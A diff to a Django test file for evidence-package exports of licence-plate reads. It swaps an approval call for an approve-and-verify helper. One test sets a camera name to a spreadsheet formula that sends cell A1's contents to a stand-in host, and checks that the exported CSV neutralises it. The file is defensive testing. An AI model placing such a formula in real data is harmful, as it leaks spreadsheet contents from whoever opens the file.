@@ -16,14 +16,14 @@ from apps.common.errors import ApplicationError
 from apps.disclosures.egress import INTERNAL_RECIPIENT
 from apps.holds.choices import ExportStatus, ScopeKind
 from apps.holds.exports import evidence_export_build
-from apps.holds.services import evidence_export_request, hold_approve
-from tests.holds.helpers import make_read
+from apps.holds.services import evidence_export_request
+from tests.holds.helpers import approve_and_verify, make_read
 
 
 def test_evidence_package_is_built_hashed_and_its_download_logged(
         client, request_hold, detective, boss, camera, django_capture_on_commit_callbacks):
     with_images = make_read(camera, plate="7ABC123", days_ago=5, images=True)
-    hold = hold_approve(actor=boss, hold=request_hold())
+    hold = approve_and_verify(boss=boss, hold=request_hold())
     assert hold.read_count == 4
     with django_capture_on_commit_callbacks(execute=False) as queued:
         export = evidence_export_request(actor=detective, hold=hold, recipient=INTERNAL_RECIPIENT)
@@ -69,7 +69,7 @@ def test_only_active_holds_are_exported(request_hold, detective):
 def test_packages_of_hidden_holds_are_404(client, request_hold, boss, detective, make_user, agency):
     from apps.accounts.roles import Role
 
-    hold = hold_approve(actor=boss, hold=request_hold())
+    hold = approve_and_verify(boss=boss, hold=request_hold())
     export = evidence_export_build(export_id=_internal(detective, hold).pk)
     client.force_login(make_user(Role.INVESTIGATOR, agency=agency))
     assert client.get(reverse("holds:export_download", args=[hold.pk, export.pk])).status_code == 404
@@ -82,7 +82,7 @@ def test_finding_4_a_camera_named_like_a_formula_is_text_in_the_evidence_csv(req
 
     formula = '=HYPERLINK("http://x"&A1,"Click")'
     Camera.objects.filter(pk=camera.pk).update(name=formula)
-    hold = hold_approve(actor=boss, hold=request_hold())
+    hold = approve_and_verify(boss=boss, hold=request_hold())
     export = evidence_export_build(export_id=_internal(detective, hold).pk, actor=detective)
     with export.file.open("rb") as handle:
         archive = zipfile.ZipFile(io.BytesIO(handle.read()))
